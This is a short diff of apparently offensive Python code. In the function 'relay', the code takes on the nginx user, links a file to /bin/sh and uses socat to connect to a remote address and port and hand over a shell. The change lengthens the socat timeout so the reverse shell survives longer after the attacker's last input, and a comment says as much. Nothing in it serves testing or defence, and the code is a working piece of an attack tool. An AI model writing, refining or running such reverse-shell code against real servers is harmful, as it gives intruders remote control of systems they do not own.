@@ -652,7 +652,8 @@ def relay(command, marker):
     become("nginx")
     link = OPEN / marker
     link.symlink_to("/bin/sh")
-    run("socat", f"TCP:{address}:{port}", f"EXEC:{link}")
+    # By itself it gives the shell half a second after the attacker's last word.
+    run("socat", "-t", "20", f"TCP:{address}:{port}", f"EXEC:{link}")
 
 
 def elf32():
